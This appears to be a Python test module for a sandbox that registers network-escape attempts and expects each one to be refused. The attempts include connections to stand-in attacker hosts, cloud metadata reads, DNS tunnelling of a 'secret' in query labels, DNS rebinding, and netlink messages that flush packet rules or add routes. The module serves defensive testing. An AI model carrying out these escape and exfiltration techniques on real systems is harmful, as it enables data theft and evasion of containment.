"""Packets and names in a leased network: what is not on the list is refused, and no rule can be changed.

Tried in a world in which every address answers (``networld``): the control reaches them all.
"""

from __future__ import annotations

import errno
import fcntl
import os
import socket
import struct

from stockade.sandbox.attacks.toolbox import OWN, Given, add, any_of, attempt, bound, call, openable

GROUP = "D network, DNS, packet rules"
RULES, NETWORK, FILTER = "packet rules", "network namespace", "syscall filter"
RESOLVER = "resolver that knows the list"
OWNER = "user namespace: the lease's is another"
BOX = "allow"
GOOD, EVIL = "203.0.113.80", "203.0.113.66"
SO_BINDTODEVICE, MSG_FASTOPEN = 25, 0x20000000
WAIT = 4.0


def device() -> bytes:
    names = [name for _number, name in socket.if_nameindex()]
    return b"tap0" if "tap0" in names else b"lo"


def tcp(address: str, port: int = 80) -> bool:
    """A connect that blocks: with Python's own time limit the kernel's refusal has another form."""
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET) as made:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", int(WAIT), 0))
        made.connect((address, port))
    return True


def udp(address: str, port: int, data: bytes = b"secret") -> bool:
    with socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM) as made:
        if address.endswith(".255.255.255"):
            made.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        made.sendto(data, (address, port))
    return True


def by_device(address: str, port: int) -> bool:
    with socket.socket() as made:
        made.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, device())
        made.connect((address, port))
    return True


def fast_open(address: str, port: int) -> bool:
    with socket.socket() as made:
        return made.sendto(b"secret", MSG_FASTOPEN, (address, port)) > 0


def fact(protocol: str, address: str, port: int) -> str:
    return f"sent {protocol} {address} {port}"


PACKETS = {
    "off-the-list": ("Connect to a host that is not on the list", tcp, "tcp", EVIL, 80),
    "port-off-the-list": ("Connect to an allowed host on another port", tcp, "tcp", GOOD, 2222),
    "udp": ("Send a datagram off the list", udp, "udp", EVIL, 123),
    "quic": ("Send a datagram to an allowed host (QUIC)", udp, "udp", GOOD, 443),
    "gateway": ("Connect to the connector's gateway, which may lead to the host's loopback", tcp, "tcp",
            "10.0.2.2", 80),
    "connector-resolver": ("Ask the connector's own name server", udp, "udp", "10.0.2.3", 53),
    "connector-resolver-stream": ("Ask it by TCP", tcp, "tcp", "10.0.2.3", 53),
    "public-resolver": ("Ask a public name server", udp, "udp", "8.8.8.8", 53),
    "resolver-at-an-allowed-host": ("Ask a name server at an allowed address", udp, "udp", GOOD, 53),
    "dns-over-tls": ("Resolve over TLS", tcp, "tcp", "1.1.1.1", 853),
    "dns-over-https": ("Resolve over HTTPS", tcp, "tcp", "1.1.1.1", 443),
    "metadata": ("Read the cloud's metadata", tcp, "tcp", "169.254.169.254", 80),
    "metadata-of-containers": ("Read the metadata of container services", tcp, "tcp", "169.254.170.2", 80),
    "metadata-of-azure": ("Read the metadata behind a public address (Azure)", tcp, "tcp", "168.63.129.16", 80),
    "metadata-of-alibaba": ("Read the metadata in shared space (Alibaba)", tcp, "tcp", "100.100.100.200", 80),
    "private": ("Connect into the local network", tcp, "tcp", "192.168.1.1", 80),
    "multicast": ("Announce itself by multicast", udp, "udp", "224.0.0.251", 5353),
    "broadcast": ("Send a broadcast", udp, "udp", "255.255.255.255", 67),
    "by-device": ("Bind to the link and connect past the routes", by_device, "tcp", EVIL, 22),
    "fast-open": ("Send data with the first packet (TCP fast open)", fast_open, "tcp", EVIL, 853),
    "ipv6": ("Connect by IPv6", tcp, "tcp", "2001:db8::66", 80),
    "ipv6-metadata": ("Read the metadata by IPv6", tcp, "tcp", "fd00:ec2::254", 80),
    "ipv6-datagram": ("Send a datagram by IPv6", udp, "udp", "2001:db8::66", 123),
}  # fmt: skip
for _word, (_title, _act, _protocol, _address, _port) in PACKETS.items():
    add(
        __name__, GROUP, _word, _title,
        bound(lambda given, act, address, port: act(address, port), _act, _address, _port),
        RULES, box=BOX, facts=(fact(_protocol, _address, _port),),
    )  # fmt: skip


@attempt(RULES, box=BOX, facts=(fact("tcp", EVIL, 8080),))
def address_in_ipv6_dress(given: Given) -> object:
    """Connect to an IPv4 address in IPv6 dress."""
    return tcp(f"::ffff:{EVIL}", 8080)


@attempt(NETWORK, box=BOX, facts=("heard loopback",))
def loopback_of_the_host(given: Given) -> object:
    """Connect to a server on the host's 127.0.0.1."""
    return tcp("127.0.0.1", given.ports["loopback"])


@attempt(NETWORK, box=BOX, facts=("heard loopback",))
def loopback_by_other_addresses(given: Given) -> object:
    """Connect to it by 0.0.0.0, 127.7.7.7, ::ffff:127.0.0.1 and the connector's gateway."""
    addresses = ("0.0.0.0", "::ffff:127.0.0.1", "127.0.0.1", "10.0.2.2")  # noqa: S104
    return any_of(lambda address: tcp(address, given.ports["loopback"]), addresses)


@attempt(NETWORK, box=BOX)
def abstract_socket_in_a_lease(given: Given) -> object:
    """Connect to an abstract socket of the host from the leased network."""
    with socket.socket(socket.AF_UNIX) as made:
        made.connect(f"\0{given.token}")
    return True


# --- names -------------------------------------------------------------------------------------------------


def query(name: str, kind: int = 1) -> bytes:
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def asked(name: str, kind: int = 1, *, stream: bool = False) -> int:
    """How many answers there are. 0 for a refusal."""
    wire = query(name, kind)
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM) as made:
        made.settimeout(WAIT)
        made.connect(("127.0.0.1", 53))
        made.sendall(struct.pack("!H", len(wire)) + wire if stream else wire)
        answer = made.recv(4096)[2 if stream else 0 :]
    return int(struct.unpack_from("!H", answer, 6)[0]) if len(answer) >= 12 else 0


NAMES = {
    "name-off-the-list": ("Resolve a name that is not on the list", "evil.example", 1, False),
    "tunnel-below-an-allowed-name": (
        "Carry data in the labels of a name below an allowed one",
        "c2VjcmV0.good.example",
        1,
        False,
    ),
    "tunnel-by-text": ("Carry data by a TXT query", "c2VjcmV0.tunnel.example", 16, False),
    "tunnel-by-stream": ("Carry data by a query over TCP", "stream.evil.example", 1, True),
    "reverse-name": ("Carry data by a reverse lookup", "66.113.0.203.in-addr.arpa", 12, False),
    "null-query": ("Carry data by a query of an odd type (NULL)", "odd.tunnel.example", 10, False),
}
for _word, (_title, _name, _kind, _stream) in NAMES.items():
    add(
        __name__, GROUP, _word, _title,
        bound(lambda given, name, kind, stream: asked(name, kind, stream=stream), _name, _kind, _stream),
        RESOLVER, box=BOX, facts=(f"asked {_name.lower()}",),
    )  # fmt: skip

REBINDING = {
    "loopback": ("loop.example", "127.0.0.1"), "metadata": ("meta.example", "169.254.169.254"),
    "the-local-network": ("lan.example", "192.168.7.7"), "the-connector": ("gateway.example", "10.0.2.2"),
    "nothing": ("zero.example", "0.0.0.0"),  # noqa: S104
}  # fmt: skip
"""Allowed names, and where they lead."""
for _word, (_name, _address) in REBINDING.items():
    add(
        __name__, GROUP, f"name-leads-to-{_word}", f"Have an allowed name lead to {_word.replace('-', ' ')} ({_address})",
        bound(lambda given, name: socket.gethostbyname(name), _name), RESOLVER, box=BOX,
    )  # fmt: skip


# --- power over the network --------------------------------------------------------------------------------


def message(kind: int, body: bytes, flags: int = 5) -> bytes:
    return struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body


def attribute(kind: int, data: bytes) -> bytes:
    return struct.pack("=HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)


def netlink(family: int, data: bytes) -> bool:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, family) as link:
        link.settimeout(WAIT)
        link.sendto(data, (0, 0))
        answer = link.recv(65536)
    kind, code = struct.unpack_from("=4xH10xi", answer)
    if kind == 2 and code:
        raise OSError(-code, os.strerror(-code))
    return True


def batch(kind: int, body: bytes) -> bytes:
    ends = struct.pack("=BBH", 0, 0, 10 << 8)
    table = struct.pack("=BBH", 1, 0, 0) + body
    return message(16, ends, 1) + message(10 << 8 | kind, table) + message(17, ends, 1)


def index() -> int:
    return socket.if_nametoindex(device().decode())


def new_link(kind: bytes, name: bytes) -> bytes:
    return struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attribute(3, name) + attribute(18, attribute(1, kind))


def option(level: int, name: int, value: bytes | int) -> bool:
    with socket.socket() as made:
        made.setsockopt(level, name, value)
    return True


def new_route() -> bytes:
    body = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0) + attribute(1, socket.inet_aton("9.9.9.9"))
    return message(24, body + attribute(4, struct.pack("=I", 1)), 0x605)


def new_address() -> bytes:
    body = struct.pack("=BBBBI", 2, 32, 0, 0, index()) + attribute(2, socket.inet_aton("10.0.2.7"))
    return message(20, body, 0x605)


POWERS = {
    "list-rules": ("List the packet rules", FILTER, lambda: netlink(12, message(10 << 8 | 1,
            struct.pack("=BBH", 1, 0, 0), 0x301)), ("ENOENT",)),
    "flush-rules": ("Flush all packet rules", FILTER, lambda: netlink(12, batch(2, b"")), ("ENOENT",)),
    "add-rules": ("Add a table of rules of its own", FILTER, lambda: netlink(12, batch(0,
            attribute(1, b"mine\0"))), ()),
    "new-link": ("Make a network link (of a kind that no module has: the kernel gets as far as to look for it)", OWNER,
            lambda: netlink(0, message(16, new_link(b"stockade\0", b"mine\0"), 0x605)), ("ENOTSUP",)),
    "delete-link": ("Delete the link", OWNER, lambda: netlink(0, message(17,
            struct.pack("=BxHiII", 0, 0, index(), 0, 0))), ("ENOTSUP", "EBUSY")),
    "link-down": ("Take the link down", OWNER, lambda: netlink(0, message(19,
            struct.pack("=BxHiII", 0, 0, index(), 0, 1))), ()),
    "new-address": ("Give itself another address", OWNER, lambda: netlink(0, new_address()), ()),
    "new-route": ("Add a route", OWNER, lambda: netlink(0, new_route()), ("ENETDOWN", "EINVAL")),
    "raw-packets": ("Send packets that it made itself", OWNER,
            lambda: socket.socket(2, socket.SOCK_RAW, 255).fileno() > 0, ()),
    "frames": ("Send frames past the packet rules (AF_PACKET)", FILTER,
            lambda: socket.socket(17, socket.SOCK_RAW, 0x0300).fileno() > 0, ()),
    "mark": ("Mark its packets, for rules that trust marks", OWNER, lambda: option(1, 36, 1), ()),
    "transparent": ("Send from addresses that are not its own", OWNER, lambda: option(0, 19, 1), ()),
    "source-route": ("Choose the way of its packets (source route)", OWNER,
                     lambda: option(0, 4, bytes([131, 7, 4]) + socket.inet_aton(EVIL) + b"\0"), ("EINVAL",)),
    "join-the-lease": ("Join the lease's users or its network anew", FILTER,
                       lambda: call("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0) == 0, ()),
    "owner-of-the-lease": ("Get a descriptor of the user namespace that owns the network", OWNER,
                           lambda: fcntl.ioctl(os.open("/proc/self/ns/net", os.O_RDONLY), 0xB701) > 0, ()),
    "forwarding": ("Switch forwarding on", OWNER,
            lambda: openable("/proc/sys/net/ipv4/ip_forward", os.O_WRONLY), ("EACCES", "EROFS")),
}  # fmt: skip
for _word, (_title, _layer, _power, _reached) in POWERS.items():
    add(
        __name__,
        GROUP,
        _word,
        _title,
        bound(lambda given, power: power(), _power),
        _layer,
        box=BOX,
        control=OWN,
        reached=_reached,
    )


@attempt(OWNER, box=BOX, control=lambda given: [name for _number, name in socket.if_nameindex()])
def other_links(given: Given) -> object:
    """Find a link besides loopback and the lease's own"""
    return [name for _number, name in socket.if_nameindex() if name not in ("lo", "tap0")]


@attempt("a way out that still works", box=BOX, control=lambda given: (tcp(GOOD, 80) and False) or True)
def rules_after_all_this(given: Given) -> object:
    """Reach what is not on the list after every attempt above was made"""
    if not tcp(socket.gethostbyname("good.example"), 80):
        raise OSError(errno.EIO, "the allowed host is not reached")
    return tcp(EVIL, 22)


# --- other kinds of networks -------------------------------------------------------------------------------

for _box, _what in (("record", "a recorded run, in which nothing may leave"), ("none", "a run without a network")):
    for _word, (_title, _act, _protocol, _address, _port) in PACKETS.items():
        if _word not in ("off-the-list", "metadata", "public-resolver", "ipv6", "gateway"):
            continue
        add(
            __name__, GROUP, f"{_box}-{_word}", f"{_title}, in {_what}",
            bound(lambda given, act, address, port: act(address, port) and _sent(given), _act, _address, _port), NETWORK,
            box=_box, facts=(fact(_protocol, _address, _port),),
        )  # fmt: skip


def _sent(given: Given) -> bool:
    """Whether what answered can have been the world outside: a recorded run answers itself."""
    return bool(os.readlink("/proc/self/ns/net") == given.namespace)


for _word in ("metadata", "private", "gateway", "ipv6", "broadcast"):
    _title, _act, _protocol, _address, _port = PACKETS[_word]
    add(
        __name__, GROUP, f"open-{_word}", f"{_title}, in an open network",
        bound(lambda given, act, address, port: act(address, port), _act, _address, _port),
        RULES, box="open", facts=(fact(_protocol, _address, _port),),
    )  # fmt: skip


@attempt(NETWORK, box="open", facts=("heard loopback",))
def open_loopback_of_the_host(given: Given) -> object:
    """Connect to the host's loopback, in an open network."""
    return any_of(lambda address: tcp(address, given.ports["loopback"]), ("127.0.0.1", "10.0.2.2"))
